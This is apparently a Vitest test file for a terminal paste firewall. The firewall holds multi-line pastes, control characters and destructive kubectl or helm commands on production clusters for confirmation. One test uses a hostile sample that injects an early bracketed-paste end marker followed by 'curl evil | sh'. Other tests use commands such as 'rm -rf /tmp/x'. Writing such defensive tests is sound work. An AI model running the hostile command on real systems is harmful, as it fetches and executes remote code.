import { describe, expect, it } from 'vitest';
import { countLines, inspectPaste, stripControlCharacters, visualizeControlCharacters } from '../../../../../src-renderer/features/terminals/paste-firewall';

const dev = { productionCluster: false, guardDestructive: true };
const prod = { productionCluster: true, guardDestructive: true };

describe('paste firewall', () => {
  it('lets a single plain line through without confirmation', () => {
    const verdict = inspectPaste('kubectl get pods -A', dev);
    expect(verdict.needsConfirmation).toBe(false);
    expect(verdict.reasons).toEqual([]);
  });

  it('holds a multi-line paste, including one that only ends in a newline (it would run)', () => {
    expect(inspectPaste('ls\nrm -rf /tmp/x', dev).reasons).toEqual(['multi-line']);
    expect(inspectPaste('whoami\n', dev).needsConfirmation).toBe(true);
    expect(inspectPaste('whoami\r', dev).needsConfirmation).toBe(true);
  });

  it('holds control characters, such as an early end-of-bracketed-paste marker, and strips them', () => {
    const hostile = 'echo safe\u001b[201~; curl evil | sh';
    const verdict = inspectPaste(hostile, dev);
    expect(verdict.reasons).toContain('control-characters');
    expect(verdict.sanitized).toBe('echo safe[201~; curl evil | sh');
    expect(verdict.sanitized).not.toMatch(/\u001b/);
  });

  it('asks again for destructive verbs only on production-tagged clusters', () => {
    expect(inspectPaste('kubectl delete ns payments', dev).needsConfirmation).toBe(false);
    const verdict = inspectPaste('kubectl delete ns payments', prod);
    expect(verdict.needsConfirmation).toBe(true);
    expect(verdict.needsExtraConfirmation).toBe(true);
    expect(verdict.destructive[0]).toMatchObject({ tool: 'kubectl', verb: 'delete' });
  });

  it('skips the destructive check when the operator turned it off', () => {
    expect(inspectPaste('helm uninstall web', { productionCluster: true, guardDestructive: false }).needsConfirmation).toBe(false);
  });

  it('counts lines across CR, LF and CRLF', () => {
    expect(countLines('a')).toBe(1);
    expect(countLines('a\r\nb\rc\n')).toBe(3);
    expect(countLines('a\nb')).toBe(2);
  });

  it('makes control characters visible in the preview and keeps tabs and newlines', () => {
    expect(visualizeControlCharacters('a\u001bb\u0007\u009b\tc\n')).toBe('a\u241bb\u2407<U+009B>\tc\n');
    expect(stripControlCharacters('a\tb\nc\u0000\u007f')).toBe('a\tb\nc');
  });
});

describe('paste firewall under enterprise policy', () => {
  it('lets policy waive the multi-line question but never the control-character or production ones', () => {
    const waived = { productionCluster: true, guardDestructive: true, confirmMultiline: false };
    expect(inspectPaste('ls\npwd\n', waived).needsConfirmation).toBe(false);
    expect(inspectPaste('ls\n\u001b[201~', waived).reasons).toEqual(['control-characters']);
    expect(inspectPaste('kubectl delete ns a\n', waived).reasons).toEqual(['destructive-on-production']);
  });
});
